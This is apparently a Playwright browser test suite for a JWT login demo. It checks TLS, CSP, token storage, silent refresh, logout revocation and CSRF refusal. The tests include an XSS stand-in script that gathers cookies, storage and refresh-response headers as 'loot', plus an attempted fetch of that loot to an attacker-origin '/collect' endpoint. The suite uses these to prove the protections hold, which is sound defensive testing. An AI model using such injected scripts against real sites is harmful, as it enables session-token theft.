"""The demo's web front end in a real browser (Debian's chromium, headless):
HTTPS with a verified certificate, HSTS and CSP, login, the dashboard, where
the tokens live (and where they do not), silent refresh, reload, logout, CSRF
from another origin, an XSS stand-in. tests/browser/test_fails_if.py shows
that the storage, HttpOnly and Origin tests fail when their protection is
switched off."""
import json
import os
import shutil

from browserlib import ALICE, BOB, COOKIE_AT_AUTH_JS, JWT_RE, https, launch, nss_home


def test_https_verified_with_hsts_and_csp(tab, playwright, demo):
    resp = tab.open()
    assert resp.url.startswith("https://")
    details = resp.security_details()
    assert details["issuer"] == "cjwt demo throwaway CA", details
    assert details["subjectName"] == "localhost"
    h = resp.headers
    assert h["strict-transport-security"].startswith("max-age=")
    csp = h["content-security-policy"]
    for part in ("default-src 'none'", "script-src 'self'", "connect-src 'self'",
                 "frame-ancestors 'none'", "form-action 'self'"):
        assert part in csp
    assert "unsafe" not in csp
    # Nothing on the page is served but over this verified connection.
    assert all(r.url.startswith(demo["gateway"] + "/") for r in tab.requests), \
        [r.url for r in tab.requests]
    # The verification is real: a browser that does not trust the throwaway CA refuses.
    home = nss_home(None)
    other = launch(playwright, home)
    try:
        page = other.new_page()
        try:
            page.goto(demo["url"], timeout=15000)
            raise AssertionError("the page loaded without trusting the demo's CA")
        except Exception as e:        # playwright's Error
            assert "ERR_CERT_AUTHORITY_INVALID" in str(e), e
    finally:
        other.close()
        shutil.rmtree(home, ignore_errors=True)


def test_login_form_and_dashboard(tab):
    tab.open()
    page = tab.page
    page.wait_for_selector("#login:not([hidden])")
    page.fill("#username", "alice")
    page.fill("#password", "wrong")
    page.click("#login-submit")
    page.wait_for_selector("#login-error:not([hidden])")
    assert page.inner_text("#login-error") == "Wrong username or password."
    assert page.is_hidden("#dashboard")
    page.fill("#password", ALICE[1])
    page.click("#login-submit")
    page.wait_for_selector("#dashboard:not([hidden])")
    tab.wait_cards()
    assert page.inner_text("#orders").split() == ["o-1001", "o-1002"]
    assert page.inner_text("#payments").split() == ["p-77"]
    assert page.inner_text("#who") == "Signed in as alice"
    assert page.inner_text("#s-role") == "admin"
    # The services were called with the access token; the gateway verified it.
    assert [r.status for r in tab.calls("/orders/list")] == [200]
    assert [r.status for r in tab.calls("/payments/recent")] == [200]
    assert not [m for m in tab.console if m.startswith("error") and "401" not in m], tab.console


def test_scopes_shown_per_user(tab):
    tab.login(BOB)
    page = tab.page
    assert page.inner_text("#orders").split() == ["o-1001", "o-1002"]
    assert "Not allowed" in page.inner_text("#payments")
    assert "payments:read" in page.inner_text("#payments")
    assert [r.status for r in tab.calls("/payments/recent")] == [403]


def test_no_token_in_page_storage(tab):
    tab.login()
    tokens = tab.access_tokens()
    assert tokens, "the page sent no bearer token"
    cookie = tab.refresh_cookie()
    assert cookie, "no refresh cookie"
    secrets = tokens + [cookie["value"]]
    view = tab.script_view()
    text = json.dumps(view)
    for s in secrets:
        assert s not in text, "a token is readable by the page's scripts: %s" % view
    assert not JWT_RE.search(text), "a JWT is readable by the page's scripts: %s" % view
    assert view["localStorage"] == [] and view["sessionStorage"] == []
    assert view["cookie"] == "" and view["cookieAtAuth"] == "", view
    # The refresh cookie, as the browser holds it.
    assert cookie["httpOnly"] is True and cookie["secure"] is True
    assert cookie["sameSite"] == "Strict" and cookie["path"] == "/auth"


def test_silent_refresh_when_the_access_token_expires(tab, test_clock):
    page = tab.page
    tab.open()
    page.wait_for_selector("#login:not([hidden])")
    # The auth service's test clock: tokens issued now are already 60 s past
    # their 15 minutes (more than the gateway's 5 s leeway), so the login gives
    # the page an expired access token. The clock is set right again just before
    # the page's refresh request goes out (held until then), so the refreshed
    # token is good.
    test_clock(-(900 + 60))

    def clock_back(route):
        test_clock(0)
        route.continue_()
    page.route("**/auth/refresh", clock_back)
    page.fill("#username", ALICE[0])
    page.fill("#password", ALICE[1])
    page.click("#login-submit")
    page.wait_for_selector("#dashboard:not([hidden])")
    tab.wait_cards()
    page.unroute("**/auth/refresh")
    # Every call got 401 "token expired" once, one refresh ran, every call was retried.
    for path in ("/orders/list", "/payments/recent"):
        calls = tab.calls(path)
        assert [r.status for r in calls] == [401, 200], (path, [r.status for r in calls])
        www = calls[0].headers["www-authenticate"]
        assert 'error="invalid_token"' in www and "token expired" in www
    refreshes = tab.calls("/auth/refresh", "POST")
    assert [r.status for r in refreshes] == [401, 200], [r.status for r in refreshes]
    # (the first is the page load's restore attempt, before any cookie existed;
    # the two calls that failed shared the one refresh: strict rotation would
    # take a second refresh with the same cookie as theft)
    assert page.inner_text("#orders").split() == ["o-1001", "o-1002"]
    assert page.inner_text("#s-refreshes") == "1"
    assert "silent refresh (token expired)" in page.inner_text("#activity")
    first, second = tab.access_tokens()[:2]
    assert first != second
    page.click("#reload-data")        # the new token goes on working
    tab.wait_cards()
    assert [r.status for r in tab.calls("/orders/list")] == [401, 200, 200]


def test_reload_keeps_the_session(tab):
    tab.login()
    before = tab.refresh_cookie()["value"]
    tab.page.reload()
    tab.page.wait_for_selector("#dashboard:not([hidden])")
    tab.wait_cards()
    assert tab.page.inner_text("#who") == "Signed in as alice"
    assert tab.page.inner_text("#orders").split() == ["o-1001", "o-1002"]
    assert tab.page.is_hidden("#login")
    # The reload went through the refresh cookie, which was rotated.
    assert [r.status for r in tab.calls("/auth/refresh", "POST")][-1] == 200
    assert tab.refresh_cookie()["value"] != before


def test_logout_revokes_and_the_next_call_is_refused(tab, demo):
    tab.login()
    access = tab.access_tokens()[-1]
    refresh = tab.refresh_cookie()["value"]
    tab.page.click("#logout")
    tab.page.wait_for_selector("#login:not([hidden])")
    assert tab.page.inner_text("#login-notice") == "You have signed out."
    assert [r.status for r in tab.calls("/auth/logout", "POST")] == [200]
    assert tab.refresh_cookie() is None, "the cookie was not cleared"
    # The old access token, from the page: refused at the gateway at once.
    status, www = tab.page.evaluate("""async (token) => {
        const r = await fetch('/orders/list', { headers: { Authorization: 'Bearer ' + token } });
        return [r.status, r.headers.get('WWW-Authenticate')];
    }""", access)
    assert status == 401 and "token revoked" in www
    # The old refresh token, replayed from outside: its family is revoked.
    status, body = https(demo, "POST", demo["gateway"] + "/auth/refresh",
                         headers={"Cookie": "refresh_token=" + refresh, "Origin": demo["gateway"]})
    assert status == 401 and body["code"] == "revoked", body
    # A reload does not bring the session back.
    tab.page.reload()
    tab.page.wait_for_selector("#login:not([hidden])")


def test_two_tabs_reloading_together_stay_signed_in(tab):
    # Two tabs share the cookie. Reloaded at the same moment, both refresh; with
    # strict rotation a second use of the same refresh token revokes the family,
    # so the page queues refreshes across tabs (Web Locks): the second tab's
    # refresh goes out after the first one's, with the rotated cookie.
    tab.login()
    second = tab.context.new_page()
    second.set_default_timeout(15000)
    statuses = []
    second.on("response", lambda r: statuses.append(r.status)
              if r.url.endswith("/auth/refresh") else None)
    tab.page.on("response", lambda r: statuses.append(r.status)
                if r.url.endswith("/auth/refresh") else None)
    second.goto(tab.demo["url"])
    second.wait_for_selector("#dashboard:not([hidden])")
    # 300 ms of emulated network latency in both tabs: without queueing, the
    # second tab's refresh leaves with the old cookie before the first one's
    # answer (with the new cookie) is back.
    for page in (tab.page, second):
        cdp = tab.context.new_cdp_session(page)
        cdp.send("Network.enable")
        cdp.send("Network.emulateNetworkConditions", {"offline": False, "latency": 300,
                                                      "downloadThroughput": -1,
                                                      "uploadThroughput": -1})
    statuses.clear()
    for _ in range(5):
        tab.page.evaluate("() => { location.reload(); }")
        second.evaluate("() => { location.reload(); }")
        for page in (tab.page, second):
            page.wait_for_selector("#login:not([hidden]), #dashboard:not([hidden])")
            assert page.is_visible("#dashboard"), "a tab lost its session: %s" % statuses
        tab.wait_cards()
    assert statuses == [200] * 10, statuses
    second.close()


def _csrf(tab, attacker, host):
    """The victim is signed in; a page of `host`:attacker-port auto-submits a
    form to the gateway's /auth/refresh. Returns (the gateway's response, the
    cookie header the browser sent with it)."""
    tab.login()
    before = tab.refresh_cookie()["value"]
    with tab.page.expect_response(lambda r: r.url.endswith("/auth/refresh")
                                  and r.request.method == "POST") as info:
        tab.page.goto(attacker.url(host))
    resp = info.value
    sent = resp.request.all_headers()
    body = json.loads(resp.body() or b"null")
    return resp, body, sent.get("cookie", ""), before


def test_csrf_from_a_sibling_origin_is_refused(tab, attacker, demo):
    # https://localhost:<other port>: another origin, the same site: SameSite=Strict
    # lets the cookie through, so only the Origin check stands in the way.
    resp, body, cookie_sent, before = _csrf(tab, attacker, "localhost")
    assert "refresh_token=" + before in cookie_sent, "the browser did not attach the cookie"
    assert resp.request.headers["origin"] == attacker.url("localhost").rstrip("/")
    assert resp.status == 403, (resp.status, body)
    assert body["error"] == "csrf" and "cross-origin request" in body["detail"]
    # The refused request changed nothing: the victim's session goes on.
    assert tab.refresh_cookie()["value"] == before
    tab.open()
    tab.page.wait_for_selector("#dashboard:not([hidden])")


def test_csrf_from_another_site_is_refused(tab, attacker):
    # https://127.0.0.1:<port>: another site: SameSite=Strict keeps the cookie
    # off the request, and the Origin check refuses it too.
    resp, body, cookie_sent, before = _csrf(tab, attacker, "127.0.0.1")
    assert "refresh_token" not in cookie_sent
    assert resp.status == 403 and body["error"] == "csrf", (resp.status, body)
    assert tab.refresh_cookie()["value"] == before


def test_an_injected_script_cannot_read_the_refresh_token(tab):
    tab.login()
    # The XSS stand-in: a script running in the page (page.evaluate runs with
    # the page's privileges). It reads everything it can and even makes the
    # page's own refresh call, reading every header and the body it is shown.
    loot = tab.page.evaluate("""async () => {
        const out = [document.cookie, JSON.stringify(Object.entries(localStorage)),
                     JSON.stringify(Object.entries(sessionStorage)), await (%s)()];
        const r = await fetch('/auth/refresh', { method: 'POST' });
        for (const [k, v] of r.headers) out.push(k + ': ' + v);
        out.push(await r.text());
        return out;
    }""" % COOKIE_AT_AUTH_JS)
    assert "POPUP BLOCKED" not in loot
    refresh_values = [c["value"] for c in tab.context.cookies() if c["name"] == "refresh_token"]
    assert refresh_values
    text = "\n".join(loot)
    for v in refresh_values:
        assert v not in text, "the injected script read the refresh token"
    assert "set-cookie" not in text.lower()
    assert "refresh_token" not in text


def test_csp_blocks_an_injected_inline_script(tab):
    tab.login()
    result = tab.page.evaluate("""() => new Promise(resolve => {
        document.addEventListener('securitypolicyviolation',
            e => resolve({ blocked: e.violatedDirective, ran: window.__xss === 1 }), { once: true });
        const s = document.createElement('script');
        s.textContent = 'window.__xss = 1';
        document.body.append(s);
        setTimeout(() => resolve({ blocked: null, ran: window.__xss === 1 }), 2000);
    })""")
    assert result["ran"] is False and result["blocked"].startswith("script-src"), result


def test_csp_blocks_fetch_to_another_origin(tab, attacker):
    # connect-src 'self': a script in the page cannot fetch() (e.g. send what it
    # found) to any other origin; the request never leaves the browser.
    tab.login()
    target = attacker.url("127.0.0.1") + "collect"
    result = tab.page.evaluate("""async (url) => {
        let directive = null;
        document.addEventListener('securitypolicyviolation', e => { directive = e.violatedDirective; });
        try {
            await fetch(url, { method: 'POST', mode: 'no-cors', body: 'loot' });
            return { sent: true, directive };
        } catch (e) {
            await new Promise(r => setTimeout(r, 100));
            return { sent: false, directive };
        }
    }""", target)
    assert result == {"sent": False, "directive": "connect-src"}, result
    assert not [r for r in tab.requests if r.url.startswith(attacker.url("127.0.0.1"))]


def test_screenshots(tab):
    """The screenshots of docs/demo.md, when CJWT_SCREENSHOTS names a folder."""
    out = os.environ.get("CJWT_SCREENSHOTS")
    tab.open()
    tab.page.wait_for_selector("#login:not([hidden])")
    if out:
        tab.page.screenshot(path=os.path.join(out, "demo-login.png"))
    tab.login()
    tab.page.wait_for_function("() => document.getElementById('activity').children.length >= 3")
    if out:
        tab.page.screenshot(path=os.path.join(out, "demo-dashboard.png"), full_page=True)
